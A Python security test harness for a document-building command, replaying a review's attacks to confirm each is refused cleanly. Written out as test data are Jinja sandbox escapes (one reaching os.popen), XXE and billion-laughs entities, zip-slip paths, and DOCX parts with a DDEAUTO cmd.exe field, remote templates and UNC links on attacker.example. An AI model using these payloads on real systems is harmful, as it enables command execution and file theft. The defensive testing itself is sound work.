"""The adversarial security review's attacks (its defects D1-D21, and the later re-check's), replayed against
the installed `agreement` command: each builds its own hostile input, runs the command as a user would, and judges the
outcome by the review's meaning of "held".

Held means: the command ends within 10 s and under 1 GB of address space, prints no traceback and no "internal
error", writes nothing when it fails, and ends as the attack expects (a refusal is exit 1 or 2 with a one-line
message; an input the tool should accept builds). The 10 s are CPU time, since the machine may be shared and
busy; a run is stopped after 30 s of wall time whatever it is doing.

Run `python tests/security.py` for the table (`--only TEXT` for the attacks whose name holds TEXT);
`test_security_review.py` runs every attack as a test. Attacks that need another user run it as `nobody`
through `setpriv` when this runs as root, and are reported as not run otherwise.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import marshal
import os
import pickle
import re
import shutil
import signal
import stat
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import robustness
import yaml
from robustness import COMMAND, TRACEBACK_MARKS, Run, run

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "samples" / "complete.yaml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
GIGABYTE = 1024**3
NOBODY = ("setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups")


@dataclass(frozen=True)
class Verdict:
    held: bool
    observed: str


@dataclass(frozen=True)
class Attack:
    area: str
    name: str
    expected: str
    defect: str  # the review's defect number when the attack found one, else ""
    attempt: Callable[[Path], Verdict]
    needs: str | None = None  # "root": runs another user through setpriv, or makes device nodes


ATTACKS: list[Attack] = []


def attack(area: str, name: str, expected: str, defect: str = "", needs: str | None = None
           ) -> Callable[[Callable[[Path], Verdict]], Callable[[Path], Verdict]]:
    def register(attempt: Callable[[Path], Verdict]) -> Callable[[Path], Verdict]:
        ATTACKS.append(Attack(area, name, expected, defect, attempt, needs))
        return attempt
    return register


def skip_reason(item: Attack) -> str | None:
    if item.needs == "root" and (os.geteuid() != 0 or shutil.which("setpriv") is None):
        return "needs root (to run as another user through setpriv, or to make a device node)"
    return None


# ---------------------------------------------------------------- running and judging


CPU_LIMIT = 10.0


def agreement(folder: Path, *args: str, timeout: float = 30.0, env: Mapping[str, str | None] | None = None,
              as_nobody: bool = False) -> Run:
    """`agreement ARGS` in ``folder``, with a cache of its own there unless ``env`` says otherwise."""
    environment: dict[str, str | None] = {"XDG_CACHE_HOME": str(folder / "cache"),
                                          "AGREEMENT_BUILDER_NO_CACHE": None, **(env or {})}
    return run(list(args), folder, timeout=timeout, address_space=GIGABYTE, env=environment,
               prefix=NOBODY if as_nobody else ())


def said(result: Run) -> str:
    """What a run showed, in a few words: its exit and its first line of message."""
    if result.timed_out:
        return f"killed after {result.seconds:.0f} s"
    if result.cpu_seconds >= CPU_LIMIT:
        return f"exit {result.exit} after {result.cpu_seconds:.0f} s of CPU time"
    lines = (result.stderr.strip() or result.stdout.strip()).splitlines()
    first = lines[0] if lines else ""
    return f"exit {result.exit}" + (f": {first[:110]}" if first else "")


def clean(result: Run) -> bool:
    return (not result.timed_out and result.cpu_seconds < CPU_LIMIT
            and not any(mark in result.stdout + result.stderr for mark in TRACEBACK_MARKS))


def refused(result: Run, out: Path | None = None, words: tuple[str, ...] = (), exits: tuple[int, ...] = (1, 2)
            ) -> Verdict:
    """Held when the run refused cleanly, with ``words`` in its message, and wrote nothing at ``out``."""
    text = result.stdout + result.stderr
    held = (clean(result) and result.exit in exits and (out is None or not os.path.lexists(out))
            and all(w in text for w in words))
    return Verdict(held, said(result))


def accepted(result: Run, out: Path | None = None) -> Verdict:
    held = clean(result) and result.exit == 0 and (out is None or out.is_file())
    return Verdict(held, said(result))


def copy_sample(folder: Path, name: str = "complete.yaml") -> Path:
    target = folder / name
    shutil.copyfile(SAMPLE, target)
    return target


def clause_folder(folder: Path, body: str, *, whole: bool = False, name: str = "variation.xml.j2") -> Path:
    """A clause folder holding one override: ``body`` inside the variation clause, or as the whole file."""
    path = folder / "clauses"
    path.mkdir(exist_ok=True)
    text = body if whole else f'<section key="variation"><heading>Variation</heading><clause>{body}</clause></section>'
    (path / name).write_text(text, encoding="utf-8")
    return path


def with_template(folder: Path, body: str, fmt: str = "md", *, whole: bool = False,
                  timeout: float = 30.0) -> tuple[Run, Path]:
    source, clauses = copy_sample(folder), clause_folder(folder, body, whole=whole)
    out = folder / f"out.{fmt}"
    return agreement(folder, "build", str(source), "--clauses", str(clauses), "-o", str(out), timeout=timeout), out


# ---------------------------------------------------------------- 2. the Jinja sandbox

ESCAPES = {
    "dunder through an attribute": "{{ ''.__class__.__mro__ }}",
    "dunder through a subscript": "{{ ''['__class__'] }}",
    "cycler's globals": "{{ cycler.__init__.__globals__ }}",
    "cycler's __init__ by subscript": "{{ cycler['__init__'] }}",
    "joiner's globals to os": "{{ joiner.__init__.__globals__.os }}",
    "lipsum's globals to os.popen": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "the template reference's context": "{{ self._TemplateReference__context }}",
    "the context through attr": "{{ self|attr('_TemplateReference__context') }}",
    "str.format reaching __class__": "{{ '{0.__class__.__mro__}'.format('x') }}",
    "format through attr": "{{ ('{0.__class__}')|attr('format')('x') }}",
    "format_map reaching __class__": "{{ '{x.__class__}'.format_map({'x': 'a'}) }}",
    "a function's globals": "{{ who.__globals__ }}",
    "a function's closure": "{{ who.__closure__ }}",
    "a view's private data": "{{ agreement._data }}",
    "a view's schema through attr": "{{ agreement|attr('_schema') }}",
    "range's module": "{{ range.__self__ }}",
    "the loop object's class": "{% for i in [1] %}{{ loop.__class__ }}{% endfor %}",
    "a dict changed in place": "{% set d = {} %}{{ d.update({'a': 1}) }}",
    "a list changed in place": "{% set l = [] %}{{ l.append(1) }}",
    "include by absolute path": "{% include '/etc/passwd' %}",
    "include up and out": "{% include '../../../etc/passwd' %}",
    "import by absolute path": "{% import '/etc/passwd' as x %}",
    "from-import out of the folder": "{% from '../c-baseline/variation.xml.j2' import x %}",
    "extends by absolute path": "{% extends '/etc/hostname' %}",
    "include of an input value": "{% include meta.title %}",
}

for _label, _payload in ESCAPES.items():
    def _escape(folder: Path, payload: str = _payload) -> Verdict:
        result, out = with_template(folder, payload)
        verdict = refused(result, out, ("variation.xml.j2",), exits=(2,))
        leaked = "root:" in result.stdout + result.stderr
        return Verdict(verdict.held and not leaked, verdict.observed)
    attack("sandbox", _label, "refused (exit 2, names the template)")(_escape)


@attack("sandbox", "attribute filters over internals", "refused, or nothing leaked")
def _attribute_filters(folder: Path) -> Verdict:
    result, out = with_template(folder, "{{ [cycler]|map(attribute='__init__')|list }}"
                                        "{{ [cycler]|selectattr('__init__')|list }}")
    if result.exit == 0:
        text = out.read_text(encoding="utf-8")
        return Verdict(clean(result) and "function" not in text and "globals" not in text, said(result))
    return refused(result, out, exits=(2,))


LIMITS = {
    "a range of 10**9": ("{% for i in range(10**9) %}{% endfor %}", "D13"),
    "nested loops of 10**10 iterations": ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
                                          "{% endfor %}", "D3"),
    "a macro that calls itself": ("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", "D13"),
    "a template that includes itself": ("{% include 'variation.xml.j2' %}", "D13"),
    "a string multiplied to 10 GB": ("{{ 'a' * 10**10 }}", "D3"),
    "a string of 1 GB, measured": ("{{ ('a' * 10**9)|length }}", "D3"),
    "a list of a billion items": ("{{ ([1] * 10**9)|length }}", "D3"),
    "a format width of 10**10": ("{{ '{:>10000000000}'.format('a') }}", "D3"),
    "center to 10**10": ("{{ 'a'|center(10**10) }}", "D3"),
    "a %-format star width of 10**10": ("{{ '%*d' % (10**10, 1) }}", "D3"),
    "a million paragraphs of lorem ipsum": ("{{ lipsum(10**6) }}", "D3"),
    "a float overflow": ("{{ 2.0 ** 10000 }}", "D13"),
    "an integer of 5,000 digits printed": ("{{ 10 ** 5000 }}", ""),
    "a power of 10**10 digits": ("{{ 10 ** (10 ** 10) }}", "D3"),
}

for _label, (_payload, _defect) in LIMITS.items():
    def _limit(folder: Path, payload: str = _payload) -> Verdict:
        result, out = with_template(folder, payload)
        return refused(result, out, ("variation.xml.j2",), exits=(2,))
    attack("sandbox", _label, "bounded: exit 2 naming the template, within 10 s and 1 GB", _defect)(_limit)


@attack("sandbox", "a template that is a link to /etc/passwd", "refused, nothing shown")
def _linked_template(folder: Path) -> Verdict:
    clauses = folder / "clauses"
    clauses.mkdir()
    (clauses / "variation.xml.j2").symlink_to("/etc/passwd")
    out = folder / "out.md"
    result = agreement(folder, "build", str(copy_sample(folder)), "--clauses", str(clauses), "-o", str(out))
    verdict = refused(result, out, exits=(2,))
    return Verdict(verdict.held and "root:" not in result.stdout + result.stderr, verdict.observed)


@attack("sandbox", "helpers that are links to files outside the folder", "refused (outside the folder)", "D5")
def _linked_helpers(folder: Path) -> Verdict:
    clauses = clause_folder(folder, "{% include '_leak.xml.j2' %} / {% include '_leak2' %}")
    (clauses / "_leak.xml.j2").symlink_to("/etc/hostname")
    (clauses / "_leak2").symlink_to("/etc/os-release")
    out = folder / "out.md"
    result = agreement(folder, "build", str(copy_sample(folder)), "--clauses", str(clauses), "-o", str(out))
    return refused(result, out, exits=(2,))


@attack("sandbox", "a 3 GB template file", "refused cheaply (little memory)", "D12")
def _huge_template(folder: Path) -> Verdict:
    clauses = folder / "clauses"
    clauses.mkdir()
    with (clauses / "variation.xml.j2").open("wb") as f:
        f.truncate(3 * GIGABYTE)
    out = folder / "out.md"
    result = agreement(folder, "build", str(copy_sample(folder)), "--clauses", str(clauses), "-o", str(out))
    verdict = refused(result, out, ("1 MB",), exits=(2,))
    return Verdict(verdict.held and result.peak_bytes < 200 * 1024**2,
                   f"{verdict.observed}; peak {result.peak_bytes // 1024**2} MB")


@attack("sandbox", "a FIFO as an override", "refused or reported", "D12")
def _fifo_template(folder: Path) -> Verdict:
    clauses = folder / "clauses"
    clauses.mkdir()
    os.mkfifo(clauses / "variation.xml.j2")
    out = folder / "out.md"
    result = agreement(folder, "build", str(copy_sample(folder)), "--clauses", str(clauses), "-o", str(out))
    return refused(result, out, ("variation.xml.j2",), exits=(2,))


MARKUP = {
    "raw WordprocessingML with INCLUDETEXT": (f'<w:r xmlns:w="{W}"><w:instrText>INCLUDETEXT "file:///etc/passwd"'
                                              "</w:instrText></w:r>", "docx"),
    "a DDEAUTO simple field": (f"<w:fldSimple xmlns:w=\"{W}\" w:instr='DDEAUTO cmd'/>", "docx"),
    "breaking out of the text run": ("</w:t></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:t>", "docx"),
    "an unclosed element": ("<unclosed>", "md"),
    "a numeric reference to a control character": ("&#1;", "docx"),
    "5,000 nested elements": ("<b>" * 5000 + "x" + "</b>" * 5000, "md"),
}

for _label, (_payload, _fmt) in MARKUP.items():
    def _markup(folder: Path, payload: str = _payload, fmt: str = _fmt) -> Verdict:
        result, out = with_template(folder, payload, fmt)
        return refused(result, out, exits=(2,))
    attack("sandbox", _label, "refused (exit 2)")(_markup)


ENTITIES = {
    "an external entity in the template's output": '<!DOCTYPE section [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    "an internal entity": '<!DOCTYPE section [<!ENTITY e "expanded">]>',
    "billion laughs in the output": "<!DOCTYPE section [<!ENTITY a \"aaaaaaaaaa\">" + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>",
}

for _label, _doctype in ENTITIES.items():
    def _entity(folder: Path, doctype: str = _doctype) -> Verdict:
        entity = "j" if "laughs" in doctype or "aaaa" in doctype else "e"
        body = doctype + f'<section key="variation"><heading>V</heading><clause>&{entity};</clause></section>'
        result, out = with_template(folder, body, "docx", whole=True)
        return refused(result, out, exits=(2,))
    attack("sandbox", _label, "refused, not expanded")(_entity)


@attack("sandbox", "a CDATA section holding field markup", "kept as text")
def _cdata(folder: Path) -> Verdict:
    result, out = with_template(folder, f'<![CDATA[</w:t></w:r><w:fldSimple xmlns:w="{W}" '
                                         'w:instr="INCLUDETEXT x"/>]]>', "docx")
    if result.exit != 0:
        return Verdict(False, said(result))
    with zipfile.ZipFile(out) as archive:
        body = archive.read("word/document.xml")
    return Verdict(clean(result) and b"<w:fldSimple" not in body and b"&lt;/w:t&gt;" in body, said(result))


@attack("sandbox", "a note's rule attribute holding HTML", "escaped in every format", "D21")
def _note_rule(folder: Path) -> Verdict:
    clauses = clause_folder(folder, "<section key=\"variation\"><heading>V</heading><note rule='&lt;img src=x "
                                    "onerror=alert(1)&gt;' severity='error'>n</note><clause>c</clause></section>",
                            whole=True)
    source = copy_sample(folder)
    found = []
    for fmt in ("md", "html", "docx"):
        out = folder / f"out.{fmt}"
        result = agreement(folder, "build", str(source), "--clauses", str(clauses), "-o", str(out))
        if result.exit != 0 or not clean(result):
            return Verdict(False, f"{fmt}: {said(result)}")
        found.append(f"{fmt}: {', '.join(_live_markup(out)) or 'escaped'}")
    return Verdict(all(f.endswith("escaped") for f in found), "exit 0; " + ", ".join(found))


@attack("sandbox", "a table column 10**9 wide", "bounded", "D3")
def _table_width(folder: Path) -> Verdict:
    clauses = clause_folder(folder, '<section key="variation"><heading>V</heading><table><col width="1000000000">A'
                                    "</col><row><cell>x</cell></row></table></section>", whole=True)
    out = folder / "out.md"
    result = agreement(folder, "build", str(copy_sample(folder)), "--clauses", str(clauses), "-o", str(out))
    small = not out.exists() or out.stat().st_size < 1024**2
    return Verdict(clean(result) and result.exit in (0, 2) and small, f"{said(result)}; "
                   f"peak {result.peak_bytes // 1024**2} MB")


@attack("sandbox", "negative column widths", "refused")
def _bad_width(folder: Path) -> Verdict:
    clauses = clause_folder(folder, '<section key="variation"><heading>V</heading><table><col width="-5">A</col>'
                                    "</table></section>", whole=True)
    out = folder / "out.md"
    return refused(agreement(folder, "build", str(copy_sample(folder)), "--clauses", str(clauses), "-o", str(out)),
                   out, ("positive widths",), exits=(2,))


# ---------------------------------------------------------------- 3. reference documents


def parts() -> dict[str, bytes]:
    return robustness._docx_parts()


def package(path: Path, members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def with_reference(folder: Path, make: Callable[[Path], Path], fmt: str = "docx", timeout: float = 30.0
                   ) -> tuple[Run, Path]:
    reference = make(folder / "reference.docx")
    out = folder / f"out.{fmt}"
    result = agreement(folder, "build", str(copy_sample(folder)), "--reference-doc", str(reference), "-o", str(out),
                       timeout=timeout)
    return result, out


def _footer(content: str, namespaces: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr xmlns:w="{W}" xmlns:r="{R}"{namespaces}>'
            f"{content}</w:ftr>").encode()


def _footer_rels(kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}"{mode}/></Relationships>').encode()


def _changed(**changes: bytes) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        members = parts()
        members.update({name.replace("__", "/").replace("_DOT_", "."): data for name, data in changes.items()})
        return package(path, members)
    return make


def _with_doctype(part: str, doctype: bytes, *, pad: int = 0, entity_in: bytes | None = None,
                  encoding: str = "utf-8") -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        members = parts()
        original = members[part].split(b"?>", 1)[1]
        if entity_in is not None:
            original = original.replace(b"</w:ftr>", entity_in + b"</w:ftr>")
        text = (b'<?xml version="1.0"?>' + (b"<!--" + b" " * pad + b"-->" if pad else b"") + doctype + original)
        if encoding != "utf-8":
            text = text.decode().replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>',
                                         1).encode(encoding)
        members[part] = text
        return package(path, members)
    return make


XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b"<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\">" + b"".join(
    b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]>"


@attack("reference", "the shipped reference, copied (control)", "builds")
def _control(folder: Path) -> Verdict:
    result, out = with_reference(folder, lambda p: package(p, parts()))
    return accepted(result, out)


@attack("reference", "98 members of 1 MB of zeros, under the ratio floor", "refused or harmless")
def _under_floor(folder: Path) -> Verdict:
    def make(path: Path) -> Path:
        return package(path, {**parts(), **{f"word/media/p{i}.bin": bytes(1024**2) for i in range(98)}})
    result, out = with_reference(folder, make)
    if result.exit == 0:
        names = zipfile.ZipFile(out).namelist()
        return Verdict(clean(result) and not any(n.startswith("word/media/p") for n in names), said(result))
    return refused(result, out, exits=(2,))


@attack("reference", "a member whose directory entry understates its size", "refused or harmless")
def _lying_size(folder: Path) -> Verdict:
    def make(path: Path) -> Path:
        package(path, {**parts(), "word/media/liar.bin": bytes(100 * 1024**2)})
        raw = bytearray(path.read_bytes())
        for entry in _central_entries(raw):
            if _entry_name(raw, entry) == b"word/media/liar.bin":
                raw[entry + 24:entry + 28] = struct.pack("<I", 1000)
        path.write_bytes(bytes(raw))
        return path
    result, out = with_reference(folder, make)
    if result.exit == 0:
        return Verdict(clean(result) and "word/media/liar.bin" not in zipfile.ZipFile(out).namelist(), said(result))
    return refused(result, out, exits=(2,))


@attack("reference", "members named ../../x.txt, /abs/y.txt and ..\\..\\win.txt", "nothing written outside")
def _zip_slip(folder: Path) -> Verdict:
    work = folder / "a" / "b"
    work.mkdir(parents=True)
    reference = package(folder / "slip.docx", {**parts(), "../../x.txt": b"slip", "/abs/y.txt": b"abs",
                                               "..\\..\\win.txt": b"w"})
    before = robustness.snapshot(folder)
    result = agreement(work, "build", str(copy_sample(work)), "--reference-doc", str(reference), "-o", "out.docx")
    after = robustness.snapshot(folder)
    added = set(after) - set(before) - {"a/b/complete.yaml", "a/b/out.docx"}
    added = {a for a in added if not a.startswith(("a/b/cache", "cache"))}
    return Verdict(clean(result) and result.exit in (0, 2) and not added, said(result) + (f"; wrote {added}"
                                                                                         if added else ""))


DOCTYPES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "an external entity in styles.xml": (_with_doctype("word/styles.xml", XXE), ""),
    "billion laughs in styles.xml": (_with_doctype("word/styles.xml", LAUGHS), ""),
    "a DOCTYPE after 9 KB of comment, styles.xml": (_with_doctype("word/styles.xml", XXE, pad=9000), "D6"),
    "a DOCTYPE after 9 KB of comment in the footer, entity used": (
        _with_doctype("word/footer1.xml", b'<!DOCTYPE w:ftr [<!ENTITY e SYSTEM "file:///etc/hostname">]>', pad=9000,
                      entity_in=b"<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"), "D6"),
    "billion laughs after 9 KB of comment": (_with_doctype("word/styles.xml", LAUGHS, pad=9000), ""),
    "a DOCTYPE in UTF-32": (_with_doctype("word/styles.xml", XXE, encoding="utf-32"), "D6"),
}

for _label, (_make, _defect) in DOCTYPES.items():
    def _doctype(folder: Path, make: Callable[[Path], Path] = _make) -> Verdict:
        result, out = with_reference(folder, make)
        return refused(result, out, exits=(2,))
    attack("reference", _label, "refused (exit 2)", _defect)(_doctype)


@attack("reference", "a DOCTYPE in a part named styles.XML", "refused (exit 2)", "D6")
def _uppercase_part(folder: Path) -> Verdict:
    def make(path: Path) -> Path:
        members = parts()
        members["word/styles.XML"] = b'<?xml version="1.0"?>' + XXE + members.pop("word/styles.xml").split(b"?>", 1)[1]
        members["word/_rels/document.xml.rels"] = members["word/_rels/document.xml.rels"].replace(
            b'Target="styles.xml"', b'Target="styles.XML"')
        members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"/word/styles.xml",
                                                                                b"/word/styles.XML")
        return package(path, members)
    result, out = with_reference(folder, make)
    return refused(result, out, ("DOCTYPE",), exits=(2,))


def _types_plus(extra: bytes) -> bytes:
    return parts()["[Content_Types].xml"].replace(b"</Types>", extra + b"</Types>")


def _document_rels_plus(extra: str) -> bytes:
    return parts()["word/_rels/document.xml.rels"].replace(b"</Relationships>", extra.encode() + b"</Relationships>")


ACTIVE: dict[str, tuple[Callable[[Path], Path], str]] = {
    "a .docm with vbaProject.bin": (_changed(word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0" + bytes(100)), ""),
    "a VBA project renamed, its content type in capitals": (_changed(
        word__x_DOT_bin=b"\xd0\xcf\x11\xe0" + bytes(100),
        **{"[Content_Types]_DOT_xml": _types_plus(b'<Override PartName="/word/x.bin" '
                                                  b'ContentType="application/vnd.ms-office.VBAPROJECT"/>')},
        word___rels__document_DOT_xml_DOT_rels=_document_rels_plus(
            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="x.bin"/>')), "D20"),
    "an attached template on a web server": (_changed(word___rels__document_DOT_xml_DOT_rels=_document_rels_plus(
        f'<Relationship Id="rId77" Type="{R}/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/>')), ""),
    "an external image from file:": (_changed(word___rels__document_DOT_xml_DOT_rels=_document_rels_plus(
        f'<Relationship Id="rId77" Type="{R}/image" Target="file:///etc/passwd" TargetMode="External"/>')), ""),
    "a hyperlink to file:///etc/passwd": (_changed(word___rels__document_DOT_xml_DOT_rels=_document_rels_plus(
        f'<Relationship Id="rId77" Type="{R}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>')),
        "D7"),
    "a hyperlink to a UNC share": (_changed(word___rels__document_DOT_xml_DOT_rels=_document_rels_plus(
        f'<Relationship Id="rId77" Type="{R}/hyperlink" Target="\\\\attacker.example\\share\\x.docx" '
        'TargetMode="External"/>')), "D7"),
    "a footer hyperlink to a UNC share": (_changed(
        word__footer1_DOT_xml=_footer('<w:p><w:hyperlink r:id="rId5"><w:r><w:t>House style</w:t></w:r>'
                                      "</w:hyperlink></w:p>"),
        word___rels__footer1_DOT_xml_DOT_rels=_footer_rels("hyperlink", "\\\\attacker.example\\share\\x")), "D7"),
    "INCLUDEPICTURE, INCLUDETEXT and DDEAUTO fields in the footer": (_changed(word__footer1_DOT_xml=_footer(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
        '"http://attacker.example/t.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        '</w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
        'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>')), "D7"),
    "a field code split across runs": (_changed(word__footer1_DOT_xml=_footer(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r>'
        '<w:instrText>TEXT "/etc/passwd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')),
        "D7"),
    "an altChunk in the footer": (_changed(
        word__footer1_DOT_xml=_footer('<w:altChunk r:id="rId5"/><w:p/>'),
        word___rels__footer1_DOT_xml_DOT_rels=_footer_rels("aFChunk", "chunk.html", external=False),
        word__chunk_DOT_html=b'<html><body><img src="http://attacker.example/x.png"></body></html>',
        **{"[Content_Types]_DOT_xml": _types_plus(b'<Default Extension="html" ContentType="text/html"/>')}), "D7"),
    "an embedded OLE package in the footer": (_changed(
        word__footer1_DOT_xml=_footer('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" '
                                      'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId5"/>'
                                      "</w:object></w:r></w:p>",
                                      ' xmlns:o="urn:schemas-microsoft-com:office:office"'),
        word___rels__footer1_DOT_xml_DOT_rels=_footer_rels("oleObject", "embeddings/oleObject1.bin", external=False),
        word__embeddings__oleObject1_DOT_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        **{"[Content_Types]_DOT_xml": _types_plus(b'<Default Extension="bin" ContentType="application/'
                                                  b'vnd.openxmlformats-officedocument.oleObject"/>')}), "D7"),
    "a mail merge from a remote database": (_changed(word__settings_DOT_xml=parts()["word/settings.xml"].replace(
        b"</w:settings>", b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType '
        b'w:val="native"/><w:connectString w:val="Provider=MSDASQL;Server=attacker.example;"/><w:query '
        b'w:val="SELECT * FROM x"/></w:mailMerge></w:settings>')), "D7"),
    "a VML image fetched from a web server": (_changed(word__footer1_DOT_xml=_footer(
        '<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata '
        'o:href="http://127.0.0.1:8765/vml.png"/></v:shape></w:pict></w:r></w:p>',
        ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')), ""),
}

for _label, (_make, _defect) in ACTIVE.items():
    def _active(folder: Path, make: Callable[[Path], Path] = _make) -> Verdict:
        result, out = with_reference(folder, make)
        return refused(result, out, exits=(2,))
    attack("reference", _label, "refused (exit 2)", _defect)(_active)


def _central_entries(raw: bytearray) -> Iterator[int]:
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        yield at
        at = raw.find(b"PK\x01\x02", at + 4)


def _entry_name(raw: bytearray, entry: int) -> bytes:
    length = struct.unpack("<H", raw[entry + 28:entry + 30])[0]
    return bytes(raw[entry + 46:entry + 46 + length])


def _patched(part: str, offset: int, value: Callable[[bytes], bytes], local: int | None = None
             ) -> Callable[[Path], Path]:
    """The shipped reference with two bytes of ``part``'s central directory entry (and of its local header,
    at ``local``) replaced."""
    def make(path: Path) -> Path:
        raw = bytearray(robustness._zip(path, parts()).read_bytes())
        for entry in _central_entries(raw):
            if _entry_name(raw, entry) == part.encode():
                raw[entry + offset:entry + offset + 2] = value(bytes(raw[entry + offset:entry + offset + 2]))
                header = struct.unpack("<I", raw[entry + 42:entry + 46])[0]
                if local is not None:
                    raw[header + local:header + local + 2] = value(bytes(raw[header + local:header + local + 2]))
        path.write_bytes(bytes(raw))
        return path
    return make


def _damaged_data(path: Path) -> Path:
    raw = bytearray(robustness._zip(path, parts()).read_bytes())
    directory = struct.unpack("<I", raw[raw.rfind(b"PK\x05\x06") + 16:][:4])[0]
    for i in range(200, directory - 100):
        raw[i] ^= 0x5A
    path.write_bytes(bytes(raw))
    return path


def _bad_deflate(path: Path) -> Path:
    raw = bytearray(robustness._zip(path, parts()).read_bytes())
    start = raw.find(b"word/styles.xml") + len("word/styles.xml")
    raw[start + 5:start + 60] = b"\xff" * 55
    path.write_bytes(bytes(raw))
    return path


def _without(part: str) -> Callable[[Path], Path]:
    return lambda path: package(path, {k: v for k, v in parts().items() if k != part})


def _document(transform: Callable[[bytes], bytes]) -> Callable[[Path], Path]:
    return lambda path: package(path, {**parts(), "word/document.xml": transform(parts()["word/document.xml"])})


def _cut(data: bytes, start: bytes, end: bytes) -> bytes:
    i, j = data.find(start), data.rfind(end)
    return data[:i] + data[j + len(end):]


def _written(data: bytes) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        path.write_bytes(data)
        return path
    return make


def _many(count: int) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for name, data in parts().items():
                archive.writestr(name, data)
            for i in range(count):
                archive.writestr(f"x/{i}", b"")
        return path
    return make


def _duplicate_entries(path: Path) -> Path:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts().items():
                archive.writestr(name, data)
            archive.writestr("word/_rels/document.xml.rels", _document_rels_plus(
                f'<Relationship Id="rId77" Type="{R}/attachedTemplate" Target="http://attacker.example/t.dotm" '
                'TargetMode="External"/>'))
    return path


_SHIPPED = (ROOT / "templates" / "reference.docx").read_bytes()
BROKEN: dict[str, tuple[Callable[[Path], Path], tuple[str, ...], str]] = {
    "1,001 members": (_many(1001 - 12), ("1001 files",), ""),
    "100,012 members": (_many(100_000), ("files",), ""),
    "a text file": (_written(b"This is plain text, not a document\n"), ("not a Word document",), ""),
    "an empty file": (_written(b""), ("not a Word document",), ""),
    "a zip cut in half": (_written(_SHIPPED[:len(_SHIPPED) // 2]), ("not a Word document",), ""),
    "a zip missing its last 10 bytes": (_written(_SHIPPED[:-10]), ("not a Word document",), ""),
    "a password-protected document (OLE compound file)": (_written(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)),
                                                          ("password",), ""),
    "damaged member data": (_damaged_data, ("damaged",), "D13"),
    "a corrupt deflate stream in styles.xml": (_bad_deflate, ("damaged",), "D13"),
    "styles.xml compressed with deflate64": (_patched("word/styles.xml", 10, lambda _: struct.pack("<H", 9), 8),
                                             ("compress",), "D13"),
    "an encrypted member": (_patched("word/styles.xml", 8, lambda b: struct.pack(
        "<H", struct.unpack("<H", b)[0] | 1)), ("password",), "D13"),
    "no [Content_Types].xml": (_without("[Content_Types].xml"), ("Content_Types",), ""),
    "no _rels/.rels": (_without("_rels/.rels"), ("Error:",), ""),
